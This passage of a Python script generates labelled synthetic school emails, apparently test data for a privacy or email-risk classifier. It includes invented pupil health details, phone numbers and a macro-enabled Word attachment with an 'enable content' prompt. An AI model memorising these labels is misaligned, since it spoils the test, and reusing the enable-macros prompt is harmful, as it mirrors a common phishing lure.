Organisatie: SPC campus De Linde
Gebruikersnaam: delinde.zorg
Wachtwoord: ********

Om veiligheidsredenen tonen wij uw wachtwoord nooit in een e-mail.""")
add('fw-registratie-zorgplatform', ST['zorg'], [ST['ilse']], 'Fwd: Bevestiging registratie',
    "Ilse, we zijn geregistreerd. Het wachtwoord geef ik je morgen mondeling.\nKoen" + fw_masked,
    cte='qp', rules=[], note='forwarded registration confirmation with a masked password only', tags=['fwd'])

oc_rows = [['Klas', 'Lokaal', 'Kleurcode'],
           ['1A - 2D', 'B.014', 'roze (OV3)'],
           ['3A - 4D', 'C.102', 'groen (OV3)'],
           ['5A - 6D', 'refter', 'blauw (OV4)']]
oc = ["Dag collega's,", "", "Praktisch voor het oudercontact van donderdag 17 tot 20u:", "", ('table', oc_rows), "",
      "De kleurcode hangt aan de ingang zodat ouders hun weg vinden. Elk gesprek duurt 15 minuten, de planning staat in Smartschool.",
      "Broodjes om 16u30 in de leraarskamer.", "", "Griet"]
add('oudercontact-lokalen', ST['dir'], [ST['dir']], 'oudercontact donderdag: lokalen', outlook_text(oc), kind='alt', html=outlook_html(oc),
    bcc=[('', 'personeel@sintpieterscollege.be')], rules=[], note='room numbers and colour codes, no credential; staff group in Bcc', tags=['table', 'general'])

add('badge-no-code-en', ST['jobcoach'], [('Mark Thompson', 'mark.thompson@orbisfoods.be')], 'Re: access for our trainee',
    """Dear Mark,

Thanks for asking, but please don't send the door code or any password by e-mail, neither to me nor to Jarne. As agreed with your HR department, Jarne will receive his personal badge at reception on his first day and they will show him how it works.

I will be there on Monday at 8:00 to introduce him to the team leader.

Kind regards,
Tom Vermeulen
Job coach, Sint-Pieterscollege campus De Linde""" + quote("Hi Tom, shall I email you the door code of the staff entrance so Jarne can get in on his first day? Mark",
                                                          'On Thu, 12 Sep 2024, Mark Thompson <mark.thompson@orbisfoods.be> wrote:'),
    cte='qp', lang='en', rules=[], about=['jarne'], note='English reply asking not to send a door code; no code given', tags=['reply'])

add('rekening-bedrag-mededeling', ST['boekh'], [par('kobe')], 'Schoolrekening september-oktober',
    """Beste mevrouw Leemans,

In bijlage op Smartschool staat de schoolrekening voor september-oktober van Kobe.
Bedrag: € 84,20 (middagmaal, zwemmen, uitstap Technopolis)
Te betalen voor 15 november met de gestructureerde mededeling +++240/1123/45678+++

Heeft u vragen bij de rekening? U kan mij elke voormiddag bereiken op het secretariaat.

Vriendelijke groeten,
Veerle Hendrickx
boekhouding""",
    charset='windows-1252', cte='8bit', rules=[], about=['kobe'], note='regular bill with amount, date and structured reference; nothing unpaid, no credential', tags=['cp1252'])

add('verificatiecode-uitleg', ST['ict'], [ST['ict']], 'Vanaf 1/12: aanmelden met een tweede stap',
    """Beste collega's,

Vanaf 1 december vraagt Microsoft 365 bij het aanmelden buiten de school een tweede stap.
- Je krijgt een verificatiecode van 6 cijfers per sms of in de Authenticator-app.
- Die code moet je binnen 5 minuten ingeven.
- Krijg je een code terwijl je zelf niet aan het aanmelden bent? Geef hem nooit door en verwittig mij.

Hulp bij het installeren: elke middag in A.12.

Kristof""",
    bcc=[('', 'personeel@sintpieterscollege.be')], cte='qp', rules=[],
    note='explains verification codes without giving any; staff group in Bcc', tags=['general'])

add('kopieerkaart-pincode-kwijt', ST['secr'], [ST['hanne']], 're: kopieerkaart',
    """Hanne, de kopieerkaart zelf heb ik niet, die heeft Kristof. Als je je pincode kwijt bent kan alleen hij een nieuwe aanmaken, ik kan die niet zien.
Nadia""" + quote("Nadia, weet jij nog wat mijn pincode voor de kopieerkaart is? ik ben hem kwijt. Hanne",
                 'Van: Hanne Jacobs\nVerzonden: woensdag 6 november 2024 12:02\nAan: Nadia Bouzid\nOnderwerp: kopieerkaart'),
    cte='8bit', rules=[], note='reply about a forgotten PIN without any value', tags=['reply'])

add('fotografe-bestelcode', ST['secretariaat'], [ST['secretariaat']], 'Schoolfoto\'s bestellen',
    """Beste ouders,

De foto's van de schoolfotograaf zijn klaar. Uw kind krijgt vandaag een kaartje mee met een persoonlijke bestelcode.
Met die code kan u de foto's bekijken en bestellen op de website van de fotograaf. U bent niet verplicht iets te kopen.

Kaartje kwijt? Vraag het secretariaat om een nieuw kaartje; we geven codes niet door per mail of telefoon.

Leerlingen die geen toestemming gaven voor foto's werden niet gefotografeerd.

Het secretariaat""",
    bcc=[('', 'ouders@sintpieterscollege.be')], cte='qp', rules=[],
    note='general letter about personal order codes for school photos without giving one', tags=['general'])


# ==============================================================================================
# C. GENERAL LETTERS (25)
# ==============================================================================================
OUDERS = [('', 'ouders@sintpieterscollege.be')]

add('brief-medicatie-op-school', ST['verpl'], [ST['secretariaat']], 'Medicatie op school: hoe gaan we te werk?',
    """Beste ouders,

Heel wat leerlingen op De Linde nemen medicatie, soms ook tijdens de schooluren. Om fouten te vermijden werken we met vaste afspraken.

1. Moet uw kind op school medicatie nemen?
Vraag de arts om het attest "medicatie op school" in te vullen (te vinden op Smartschool of op het secretariaat). Zonder ingevuld attest mogen wij geen medicatie geven. Dat geldt ook voor een pijnstiller of een pufje.

2. Hoe brengt u de medicatie naar school?
In de originele verpakking, met de naam van uw kind erop. Geef de medicatie niet los in de boekentas mee, maar aan de busbegeleider in een gesloten zakje, of breng ze zelf naar het verpleeglokaal.

3. Wie geeft de medicatie?
De verpleegkundige, of als zij afwezig is de klasleraar. Elke toediening wordt afgetekend.

4. Wat als er iets verandert?
Verandert de dosis of het uur, bv. na een bezoek aan de arts, dan hebben we een nieuw attest nodig. Schrijf het ook in het heen-en-weerschriftje.

5. Noodmedicatie
Voor noodmedicatie (bv. bij epilepsie of een ernstige allergie) maken we samen met u en de arts een apart plan.

Hebt u vragen? Neem gerust contact op.

Hilde Maes
verpleegkundige campus De Linde
""" + SCHOOL_TEL,
    bcc=OUDERS, cte='qp', rules=['personal_data'], note='general medication procedure for all parents (numbered, "uw kind", examples); school phone in signature',
    tags=['general', 'numbered'])

add('afspraken-leerlingenvervoer', ST['bus'], [ST['secretariaat']], 'Afspraken leerlingenvervoer 2024-2025',
    """Beste ouders,

Bijna alle leerlingen van De Linde komen met de schoolbus. Om de ritten vlot en veilig te laten verlopen, herhalen we de afspraken.

1. Op tijd klaar staan
De bus wacht maximaal 3 minuten. Is uw kind er niet, dan rijdt de bus verder.

2. Afwezig? Verwittig voor 7u
Bel of sms de busdienst of meld het via Smartschool. Zo rijdt de bus niet voor niets.

3. Adres of opstapplaats veranderen
Dat kan enkel schriftelijk, ten laatste 5 werkdagen op voorhand. Tijdelijke wijzigingen (bv. een week bij de grootouders) ook.

4. Gedrag op de bus
De leerlingen blijven zitten met de gordel aan. De busbegeleider mag een leerling een andere plaats geven. Heeft uw kind nood aan iets om rustig te blijven (bv. een koptelefoon of een vast plekje), bespreek het met de klasleraar.

5. Ophalen door iemand anders
Wie uw kind aan de bus afhaalt, moet gekend zijn bij de school.

6. Klachten of vragen
Richt ze aan de coördinator leerlingenvervoer, niet aan de chauffeur.

Met vriendelijke groeten,
Marc Lemmens
coördinator leerlingenvervoer""",
    bcc=OUDERS, cte='qp', rules=[], note='general transport rules for all parents with numbered headings and examples', tags=['general', 'numbered'])

add('faq-meltdown-timeout', ST['ortho'], [ST['secretariaat']], 'Hoe gaan wij om met een crisis? Vragen en antwoorden',
    """Beste ouders,

Op de infoavond kregen we veel vragen over wat er gebeurt als een leerling overprikkeld raakt of in crisis gaat. Hieronder de antwoorden op de meest gestelde vragen.

Wat bedoelen jullie met een "meltdown"?
Een meltdown is geen koppigheid. Het is een moment waarop een jongere zoveel prikkels of spanning heeft dat hij of zij de controle verliest: roepen, wegrennen, slaan, zich afsluiten. Bij sommige jongeren ziet u het aan de buitenkant nauwelijks.

Wat doet de leerkracht op dat moment?
Rust brengen, weinig praten, prikkels wegnemen (licht, geluid, andere leerlingen). We zorgen eerst dat iedereen veilig is.

Wat is de time-outruimte?
Een prikkelarme kamer waar een leerling tot rust kan komen. Er is altijd een volwassene in de buurt die meekijkt. De time-out is geen straf.

Wordt mijn kind ooit vastgehouden?
Enkel als iemand in gevaar is, zo kort mogelijk en door personeel dat daarvoor opgeleid is. Dat wordt altijd genoteerd en u wordt dezelfde dag verwittigd.

Hoe weet ik wat er gebeurd is?
Via het heen-en-weerschriftje of een telefoontje van de klasleraar. Bij ernstige situaties nodigen we u uit voor een gesprek.

Kan ik zelf iets doen?
Vertel ons wat thuis helpt (bv. een knuffel, muziek, een vast woord) en wat de spanning verhoogt. Zo kunnen we dat opnemen in het handelingsplan van uw kind.

Met vriendelijke groeten,
Dries Wouters
orthopedagoog""",
    bcc=OUDERS, kind='alt', cte='qp', rules=[], note='general FAQ on meltdowns, time-out and restraint for all parents, no individual case', tags=['general', 'faq'])

add('therapie-organisatie', ST['zorg'], [ST['secretariaat']], 'Logopedie, kinesitherapie en ergotherapie op De Linde',
    """Beste ouders,

Op onze school werken een logopedist, twee kinesitherapeuten en twee ergotherapeuten. Hoe organiseren we dat?

- Bij de start van het schooljaar bekijkt het klassenteam samen met de therapeuten welke leerlingen therapie nodig hebben en hoeveel.
- Therapie gebeurt meestal tijdens de lesuren, individueel of in kleine groepjes, soms in de klas zelf (bv. oefenen met een communicatiemap of aangepast bestek in de refter).
- De therapeut schrijft doelen in het handelingsplan van uw kind. Die bespreken we op het oudercontact.
- Volgt uw kind al therapie buiten de school (bv. bij een zelfstandige logopedist)? Laat het ons weten, dan kunnen we afstemmen.
- Therapie op school is gratis. Voor therapie buiten de school kan het ziekenfonds tussenkomen, de CLB-medewerker kan u daarbij helpen.

Vragen? Spreek de klasleraar aan of schrijf het in het heen-en-weerschriftje.

Koen Moens
zorgcoördinator""",
    bcc=OUDERS, cte='base64', rules=[], note='general explanation of how therapies are organised, "uw kind" with examples', tags=['general'])

add('clb-info-nieuwe-ouders', ST['clb'], [ST['clb']], 'Het CLB op De Linde: wie zijn we?',
    """Beste ouders,

Ik ben Evi Claes, de CLB-medewerker van De Linde. Ik ben elke dinsdag en donderdag op school (lokaal A.03).

Wat doet het CLB?
- We helpen bij vragen over leren, gedrag, gezondheid, thuis of de toekomst.
- We doen de medische consulten en vaccinaties.
- We helpen bij de keuze na de school: werk, dagbesteding, verdere opleiding.
- We werken samen met diensten zoals het VAPH, de mutualiteit en de jeugdhulp.

Het CLB is gratis en werkt onafhankelijk van de school. Wat u ons vertelt, blijft vertrouwelijk, tenzij u toestemming geeft om iets te delen.

U kan mij bereiken via mail of telefonisch via het onthaal van het CLB: 016 28 34 50.

Vriendelijke groeten,
Evi Claes
CLB Leuven - anker voor De Linde""",
    bcc=OUDERS, cte='qp', rules=['personal_data'], note='CLB information letter to all parents; contains a phone number', tags=['general'])

stage_docm = office_macro('docm', 'Stageovereenkomst OV3 - sjabloon. Naam leerling: ... Stageplaats: ... Mentor: ...')
add('stagereglement-6e-jaar', ST['jobcoach'], [ST['jobcoach']], 'Stagereglement en stageovereenkomst',
    """Beste ouders van een leerling van het zesde jaar,

In de bijlage vindt u het stagereglement en het sjabloon van de stageovereenkomst. Enkele belangrijke punten:

Art. 1 - Een stage is een verplicht onderdeel van de opleiding. De leerling is tijdens de stage een leerling, geen werknemer, en ontvangt geen loon.
Art. 2 - De jobcoach zoekt samen met de leerling en de ouders een passende stageplaats en bezoekt de leerling minstens één keer per week.
Art. 3 - De leerling volgt de uren en de regels van de stageplaats (bv. werkkledij, pauzes, gsm-gebruik).
Art. 4 - Bij afwezigheid verwittigt de leerling of de ouder zowel de stageplaats als de school voor 8u.
Art. 5 - De leerling is verzekerd via de schoolverzekering. Een ongeval wordt dezelfde dag gemeld.
Art. 6 - De stage kan stopgezet worden als de veiligheid van de leerling of anderen niet gegarandeerd is.

Het sjabloon van de overeenkomst is een Word-bestand met knoppen; als Word vraagt om "macro's in te schakelen", klik dan op "Inhoud inschakelen".

Met vriendelijke groeten,
Tom Vermeulen
jobcoach""",
    bcc=[('', 'ouders-6a@sintpieterscollege.be'), ('', 'ouders-6b@sintpieterscollege.be'), ('', 'ouders-6c@sintpieterscollege.be'), ('', 'ouders-6d@sintpieterscollege.be')],
    attach=[('Stageovereenkomst_sjabloon.docm', stage_docm, 'application/vnd.ms-word.document.macroEnabled.12')],
    kind='alt', cte='qp', rules=['attachment'], note='general placement regulations (numbered articles) with a macro-enabled Word template attached',
    tags=['general', 'numbered', 'attachment-docm'])

add('privacyverklaring', ST['privacy'], [ST['info']], 'Privacyverklaring Sint-Pieterscollege - update',
    """Beste ouders,

Hieronder een samenvatting van onze aangepaste privacyverklaring. De volledige tekst staat op de website.

Welke gegevens verwerken we?
- identificatiegegevens van de leerling en de ouders (naam, adres, contactgegevens, rijksregisternummer)
- gegevens over de schoolloopbaan, evaluaties en attesten
- gegevens over de ondersteuning: het verslag type 9 of basisaanbod, handelingsplannen, therapieverslagen
- medische gegevens die nodig zijn voor de zorg op school (bv. medicatie, allergieën, noodplannen), enkel met uw toestemming
- gegevens over het leerlingenvervoer (opstapplaats, afwijkende adressen)
- foto's, enkel met uw toestemming

Wie krijgt die gegevens?
Enkel de personeelsleden die ze nodig hebben, het CLB, de busmaatschappij (enkel naam, adres, opstapplaats) en de overheid wanneer de wet dat oplegt.

Hoe lang bewaren we ze?
Zolang als nodig en zoals de wet voorschrijft.

Uw rechten
U mag uw gegevens inkijken, laten verbeteren en in sommige gevallen laten wissen. Vragen of klachten: privacy@lksd.ksleuven.be.

Het aanspreekpunt informatieveiligheid
Leuvense Katholieke Scholen aan de Dijle""",
    bcc=OUDERS, kind='html', rules=[], note='privacy statement listing categories of data in general, not about one pupil', tags=['general'])

add('luizen-2b', ST['an'], [ST['an']], 'Luizen in de klas',
    """Beste ouders,

In de klas van uw kind werden deze week luizen gezien. Dat is vervelend, maar het heeft niets met netheid te maken.

Wat vragen we?
- Kijk het haar van uw kind deze week elke dag na met een luizenkam, vooral achter de oren en in de nek.
- Ziet u luizen of neten? Behandel dan met een product van de apotheek en kam elke dag, ook de andere gezinsleden.
- Laat het ons weten via het heen-en-weerschriftje, dan houden we het in de gaten.

Sommige leerlingen verdragen het kammen moeilijk. Tip: doe het op een vast moment, bv. na het bad, met een timer erbij.

Vriendelijke groeten,
An Devos, klas 2A
en het team van de eerste graad""",
    bcc=[('', 'ouders-2a@sintpieterscollege.be'), ('', 'ouders-2b@sintpieterscollege.be')], cte='8bit', rules=[],
    note='lice notice to parents of two classes in Bcc, general "uw kind"', tags=['general'])

SCHOOL_IBAN = iban_be(734, 412983)
add('herinnering-schoolrekening-allen', ST['boekh'], [ST['secretariaat']], 'Herinnering: schoolrekening september-oktober',
    f"""Beste ouders,

Bij veel gezinnen is de schoolrekening van september-oktober nog niet betaald. De vervaldag was 15 november.
Misschien is de rekening in de drukte vergeten; dan vragen we om ze zo snel mogelijk te betalen.

Rekeningnummer van de school: {SCHOOL_IBAN}
Vermeld altijd de gestructureerde mededeling van uw rekening.

Heeft u het financieel moeilijk? Neem dan contact op met mij of met de CLB-medewerker. We zoeken samen en discreet naar een oplossing, bv. een afbetalingsplan. Niemand anders op school hoeft dat te weten.

Heeft u al betaald? Dan mag u deze mail vergeten. Bedankt!

Veerle Hendrickx
boekhouding""",
    bcc=OUDERS, charset='windows-1252', cte='8bit', rules=['personal_data'],
    note="bill reminder to all parents (not one family); the school's IBAN counts as personal data", tags=['general', 'cp1252'])

add('fotobeleid', ST['directie'], [ST['secretariaat']], 'Foto\'s en filmpjes op school',
    """Beste ouders,

Op uitstappen, het schoolfeest en in de les nemen we graag foto's. We vragen daarvoor uw toestemming, en u kan die altijd aanpassen.

Wat doen we met foto's?
- in de klas en in het heen-en-weerschriftje: om uw kind te helpen vertellen wat het gedaan heeft
- op Smartschool, enkel zichtbaar voor de ouders van de klas
- op de website en Instagram van de school: enkel groepsfoto's, zonder namen, en nooit in moeilijke momenten

Wat doen we nooit?
- foto's doorgeven aan derden zonder uw toestemming
- foto's van een leerling die overstuur is of in de time-out zit

En u als ouder?
Neemt u zelf foto's op het schoolfeest, deel dan geen foto's van andere kinderen op sociale media of in de WhatsApp-groep.

Toestemming aanpassen kan via het formulier op Smartschool (Mijn profiel > Toestemmingen).

De directie""",
    bcc=OUDERS, kind='alt', cte='qp', rules=[], note='general photo policy letter to all parents', tags=['general'])

add('medicatie-eenvoudige-taal', ST['verpl'], [par('ilias')], 'Medicatie op school - makkelijke uitleg',
    """Dag mevrouw Ouali,

U vroeg naar de brief over medicatie. Hier is de uitleg in makkelijke woorden. Deze brief krijgen alle ouders.

- Moet een kind pillen of een pufje nemen op school? Dan hebben we een papier van de dokter nodig.
- Het papier heet "attest medicatie". U krijgt het op het secretariaat.
- Geef de medicatie in de doos van de apotheek. Met de naam van het kind erop.
- Geef het aan de begeleider van de bus. Niet los in de boekentas.
- Verandert er iets? Dan een nieuw papier van de dokter.

Hebt u vragen? Bel of kom langs. Wij helpen graag.

Hilde
verpleegkundige""",
    cte='qp', rules=[], note='general medication letter in simple language sent to one mother on request; nothing about her child', tags=['general', 'simple-language'])

add('transport-regles-fr', ST['bus'], [ST['secretariaat']], 'Transport scolaire : règles 2024-2025 (traduction)',
    """Chers parents,

Voici la traduction des règles du transport scolaire, pour les familles qui lisent mieux le français.

1. Être prêt à l'heure : le bus attend au maximum 3 minutes.
2. Absence : prévenez le service des bus avant 7h, par téléphone, SMS ou Smartschool.
3. Changement d'adresse ou d'arrêt : uniquement par écrit, au moins 5 jours ouvrables à l'avance (p.ex. une semaine chez les grands-parents).
4. Dans le bus, les élèves restent assis avec la ceinture. L'accompagnateur peut changer un élève de place.
5. Si quelqu'un d'autre vient chercher votre enfant à l'arrêt, cette personne doit être connue de l'école.
6. Questions ou plaintes : adressez-vous au coordinateur du transport, pas au chauffeur.

Bien à vous,
Marc Lemmens
coordinateur transport scolaire""",
    bcc=OUDERS, cte='qp', lang='fr', rules=[], note='general transport rules translated into French for all parents', tags=['general', 'numbered'])

add('notebook-whatsapp-en', ST['zorg'], [ST['secretariaat']], 'How we communicate with parents (English)',
    """Dear parents,

For families who prefer English, a short overview of how we keep in touch.

The communication notebook ("heen-en-weerschriftje")
Every pupil has a notebook that travels between home and school in the school bag. The teacher writes how the day went; you can write about the evening, the night or changes at home (e.g. a different person picking up your child). Please check it every day.

Smartschool
Official letters, the school bill and reports are on Smartschool. You can use the translate button.

Class WhatsApp groups
Some classes have a parents' WhatsApp group. It is run by parents, not by the school. Please do not share photos of other children or information about other pupils there. For questions about your own child, contact the teacher directly.

Phone
Urgent matters (e.g. your child is ill or absent): please phone the school before 8 am.

Kind regards,
Koen Moens
care coordinator""",
    bcc=OUDERS, cte='qp', lang='en', rules=[], note='general English letter about the communication notebook and parents WhatsApp', tags=['general'])

add('studiedag-ouders-in-to', ST['secretariaat'], [('Ouders De Linde', 'ouders@sintpieterscollege.be')], 'Woensdag 13 november: studiedag, geen bussen',
    """Beste ouders,

Op woensdag 13 november is er een pedagogische studiedag voor alle personeelsleden. Er is die dag geen les en er rijden geen bussen.

Hebt u opvang nodig? Laat het ons voor vrijdag weten, dan zoeken we samen een oplossing.

Vriendelijke groeten,
Het secretariaat""",
    cte='qp', rules=['bcc'], note='general notice with the all-parents group address visible in To', tags=['general'])

add('uitstap-3b-groep-in-to', ST['jelle'], [('Ouders 3B', 'ouders-3b@sintpieterscollege.be')], 'Uitstap naar de kinderboerderij',
    """Dag ouders van 3B,

Volgende donderdag gaan we met de klas naar de kinderboerderij in Kessel-Lo. We vertrekken om 9u30 te voet en zijn terug voor het middageten.

Mee te brengen:
- laarzen of oude schoenen
- regenjas
- een drankje

De uitstap is gratis. Foto's zet ik op Smartschool voor de kinderen met toestemming.

Groetjes,
meester Jelle""",
    cte='8bit', rules=['bcc'], note='class letter with the class parents group address visible in To', tags=['general'])

add('whatsapp-afspraken', ST['dir'], [ST['secretariaat']], 'Afspraken over WhatsApp-groepen van ouders',
    """Beste ouders,

In verschillende klassen bestaat een WhatsApp-groep van ouders. Dat is fijn om elkaar te leren kennen en praktische dingen te regelen. Toch krijgen we signalen dat er soms dingen gedeeld worden die daar niet thuishoren.

Daarom vragen we:
- Deel geen foto's of filmpjes van andere kinderen.
- Praat niet over het gedrag, de gezondheid of de thuissituatie van andere leerlingen. Ook niet als u het goed bedoelt.
- Hebt u een bezorgdheid over wat er op school gebeurd is? Bespreek het met de klasleraar, niet in de groep.
- Leerkrachten zitten niet in deze groepen. Berichten voor de school stuurt u via Smartschool of het heen-en-weerschriftje.

Bedankt om hier samen op te letten.

Griet Vanparys
directeur""",
    bcc=OUDERS, cte='qp', rules=[], note='general appeal about parents WhatsApp groups, no individual case', tags=['general'])

add('sneeuw-bussen', ST['bus'], [ST['secretariaat']], 'Bij sneeuw en ijzel: wat met de bussen?',
    """Beste ouders,

De komende dagen wordt sneeuw en ijzel voorspeld. Wat gebeurt er dan met het leerlingenvervoer?

- De busmaatschappij beslist 's morgens om 6u of de bussen rijden.
- Rijden de bussen niet, dan krijgt u voor 6u30 een bericht via Smartschool en een sms.
- De school blijft open. Brengt u uw kind zelf, dan is er opvang vanaf 7u30.
- Bussen kunnen vertraging hebben. Wacht binnen, we verwittigen u als het langer dan 20 minuten duurt.

Op zo'n dagen is de gsm van de busdienst erg druk. Enkel voor dringende vragen: 0478 21 90 33.

Marc Lemmens
coördinator leerlingenvervoer""",
    bcc=OUDERS, cte='qp', rules=['personal_data'], note='general winter transport notice with the transport service mobile number', tags=['general'])

add('schoolreglement-afwezigheden', ST['secretariaat'], [ST['secretariaat']], 'Uit het schoolreglement: afwezigheden',
    """Beste ouders,

Na enkele vragen herhalen we wat het schoolreglement zegt over afwezigheden.

3.2 Afwezigheden

3.2.1 Afwezig wegens ziekte
Is de leerling ziek, dan verwittigt u de school voor 8u30. Voor een afwezigheid van maximum drie opeenvolgende kalenderdagen volstaat een verklaring van de ouders (maximum vier keer per schooljaar). Daarna is een medisch attest nodig.

3.2.2 Afspraken bij therapie of een arts buiten de school
Een afspraak bij bv. een tandarts, een psychiater of een revalidatiecentrum plant u liefst buiten de lesuren. Lukt dat niet, dan vraagt u vooraf toestemming aan de directie.

3.2.3 Problematische afwezigheden
Blijft de leerling vaak of lang weg zonder geldige reden, dan nodigen we u uit voor een gesprek en schakelen we het CLB in.

3.2.4 Leerlingenvervoer
Vergeet niet om ook de busdienst te verwittigen.

Het volledige reglement vindt u op Smartschool.

Het secretariaat""",
    bcc=OUDERS, cte='qp', rules=[], note='rule-book excerpt with numbered headings about absences, "de leerling", general', tags=['general', 'numbered'])

add('hpv-vaccinatie-clb', ST['clb'], [ST['clb']], 'Vaccinatie in het eerste jaar',
    """Beste ouders van een leerling van het eerste jaar,

Het CLB biedt dit schooljaar gratis vaccins aan:
- een vaccin tegen HPV (2 prikken, in november en mei)
- een herhaling tegen difterie, tetanus en kinkhoest, als uw kind die nog niet kreeg

U krijgt via uw kind een brief en een toestemmingsformulier. Kruis aan wat u wil en geef het formulier terug voor 8 november.

Sommige leerlingen zijn bang van prikken. Schrijf het gerust op het formulier: we kunnen dan uitleggen met prenten, de klasleraar laten meekomen of uw kind als eerste laten gaan.

Vriendelijke groeten,
Evi Claes, CLB Leuven
en de schoolarts""",
    bcc=[('', 'ouders-1a@sintpieterscollege.be'), ('', 'ouders-1b@sintpieterscollege.be'), ('', 'ouders-1c@sintpieterscollege.be'), ('', 'ouders-1d@sintpieterscollege.be')],
    cte='qp', rules=[], note='general CLB vaccination letter to first-year parents in Bcc', tags=['general'])

add('uitleg-schoolkosten-tahiri', ST['boekh'], [par('sara')], 'Re: brief schoolkosten',
    """Beste mevrouw Tahiri,

U vroeg wat er in de brief over de schoolkosten staat. Deze brief krijgen alle ouders, u hoeft niets speciaals te doen.

Kort samengevat:
- Sommige kosten zijn voor iedereen (zwemmen, uitstappen, middageten voor wie op school eet).
- U krijgt elke twee maanden een rekening op Smartschool.
- U kan betalen met overschrijving of op het secretariaat.
- Voor leerlingen van het buitengewoon onderwijs is het busvervoer gratis.

Als iets niet duidelijk is, mag u altijd langskomen.

Vriendelijke groeten,
Veerle Hendrickx""" + quote("Goede dag mevrouw ik heb brief gekregen over geld school maar ik verstaan niet goed. moet ik iets doen? Tahiri",
                            'Op 25 sep. 2024 om 19:12 schreef Nadia Tahiri <tahiri.nadia@gmail.com>:'),
    cte='qp', rules=[], note='reply to one mother explaining the general school-costs letter, nothing about her family finances', tags=['general', 'reply'])

add('wat-is-een-handelingsplan', ST['zorg'], [ST['secretariaat']], 'Wat is een handelingsplan?',
    """Beste ouders,

Op het oudercontact van december bespreken we het handelingsplan van uw kind. Wat is dat eigenlijk?

Een handelingsplan (IHP) is een plan op maat van elke leerling. Er staat in:
- wat de leerling al goed kan;
- aan welke doelen we dit trimester werken, bv. zelfstandig de bus nemen, een boodschap doen, omgaan met veranderingen, een tafel dekken;
- welke hulp de leerling daarbij krijgt, bv. een pictogrammenschema, een koptelefoon, een vaste plaats in de klas, therapie;
- wat de ouders thuis kunnen doen.

Het klassenteam, de therapeuten en u als ouder schrijven het plan samen. Elk trimester kijken we wat gelukt is.

Wilt u het plan vooraf lezen? Vraag het aan de klasleraar.

Koen Moens
zorgcoördinator""",
    bcc=OUDERS, cte='base64', rules=[], note='general explanation of individual education plans with examples, "uw kind"', tags=['general'])

add('kerstvakantie-bussen-ar', ST['bus'], [ST['secretariaat']], 'Laatste schooldag voor de kerstvakantie / آخر يوم دراسي',
    """Beste ouders,

Vrijdag 20 december is de laatste schooldag voor de kerstvakantie.
De school stopt om 12u. De bussen vertrekken om 12u15.
Uw kind is dus vroeger thuis.
Maandag 6 januari rijden de bussen zoals altijd.

---
ترجمة:
السادة أولياء الأمور،
يوم الجمعة 20 ديسمبر هو آخر يوم دراسي قبل عطلة عيد الميلاد.
تنتهي الدراسة في الساعة 12 ظهرًا. تغادر الحافلات في الساعة 12:15.
سيصل طفلكم إلى البيت مبكرًا.
يوم الاثنين 6 يناير تعود الحافلات كالعادة.
---

Vriendelijke groeten,
Marc Lemmens
leerlingenvervoer""",
    bcc=OUDERS, cte='base64', rules=[], note='general holiday bus notice in simple Dutch with an Arabic translation', tags=['general', 'simple-language', 'translated-ar'])

add('schoolfeest-prikkelarm', ST['dir'], [ST['secretariaat']], 'Schoolfeest zaterdag 17 mei',
    """Beste ouders,

Op zaterdag 17 mei is ons schoolfeest, van 14u tot 18u. Iedereen is welkom: broers, zussen, grootouders.

We weten dat een feest met veel volk voor heel wat leerlingen zwaar is. Daarom:
- is er een prikkelarme ruimte (lokaal C.01) met zachte kussens en gedempt licht;
- liggen er oordopjes en koptelefoons aan de ingang;
- is er geen luide muziek tussen 14u en 15u, zodat leerlingen rustig kunnen toekomen;
- hangt er een plan met picto's, zodat uw kind vooraf kan zien wat er komt.

Uw kind mag op elk moment naar huis als het te veel wordt. Dat is helemaal oké.

Tot dan!
Griet Vanparys""",
    bcc=OUDERS, kind='html', rules=[], note='general invitation with sensory-friendly arrangements', tags=['general'])

add('stage-verzekering-ongeval', ST['jobcoach'], [ST['jobcoach']], 'Wat bij een ongeval op stage?',
    """Beste ouders,

Op de infoavond kwam de vraag wat er gebeurt als een leerling een ongeval heeft op de stageplaats.

1. De leerling is verzekerd via de schoolverzekering, ook op weg van en naar de stageplaats.
2. De stagementor verwittigt meteen de school. De school verwittigt u.
3. Bij een arts of in het ziekenhuis vraagt u een medisch attest. Geef het binnen de 3 dagen aan het secretariaat.
4. De school doet de aangifte bij de verzekering. U krijgt daarna een dossiernummer.
5. Kosten die het ziekenfonds niet terugbetaalt, kan u indienen met de formulieren van de verzekering.

Voor vragen over de stage kan u mij tijdens de schooluren bellen: 0494 56 12 87.

Tom Vermeulen
jobcoach""",
    bcc=[('', 'ouders-5a@sintpieterscollege.be'), ('', 'ouders-5b@sintpieterscollege.be'), ('', 'ouders-6a@sintpieterscollege.be'), ('', 'ouders-6d@sintpieterscollege.be')],
    cte='qp', rules=['personal_data'], note='general numbered letter on placement accidents; job coach mobile number', tags=['general', 'numbered'])

add('gsm-afspraken-leerlingen', ST['dir'], [ST['dir']], 'Jouw gsm op school',
    """Dag iedereen,

Een paar afspraken over je gsm op school. We schrijven ze op zodat je ze rustig kan lezen.

- Voor de les stop je je gsm in je kastje of in de bak van de klas.
- Op de speelplaats mag je muziek luisteren met oortjes.
- Als je onrustig wordt, mag je vragen om je gsm even te gebruiken, bv. voor je muziek of je rustig-app. Dat staat dan in je plan.
- Je maakt geen foto's of filmpjes van andere leerlingen of van leerkrachten.
- Op stage volg je de regels van je stageplaats.

Vragen? Vraag het aan je klasleraar.

Juf Griet""",
    bcc=[('', 'leerlingen@sintpieterscollege.be')], cte='qp', rules=[], note='general rules for pupils written to "you", pupils group in Bcc', tags=['general'])


# ==============================================================================================
# D. SENSITIVE about one pupil / family (36, misdirected ones come later)
# ==============================================================================================
mdo_rows = [['Leerling', 'Wat valt op', 'Afspraak / wie'],
            ['Milan V.', 'slaapt slecht sinds de dosis van zijn medicatie na de herfstvakantie verhoogd is; valt in de namiddag in slaap', 'Hilde belt mama, vraagt of de arts op de hoogte is'],
            ['Olivier L.', 'weigert al twee weken de bus, mama brengt hem met de auto; huilt bij het afscheid', 'Dries: stappenplan bus; bespreken met CLB'],
            ['Ruben S.', 'handelingsplan: doelen rond zelfstandig werken en pauzes vragen; CLB-dossier loopt (aanvraag ondersteuning VAPH)', 'Yves + Evi (CLB)'],
            ]
mdo = ["Dag allemaal,", "", "Hier het verslagje van het MDO van 3C van dinsdag. Graag aanvullen als ik iets vergeten ben.", "",
       ('table', mdo_rows), "", "Volgende MDO: 14 januari.", "", "Yves"]
add('mdo-3c-verslag', ST['yves'], [ST['zorg'], ST['ortho'], ST['verpl'], ST['logo'], ST['ergo']], 'verslag MDO 3C',
    outlook_text(mdo), kind='alt', html=outlook_html(mdo),
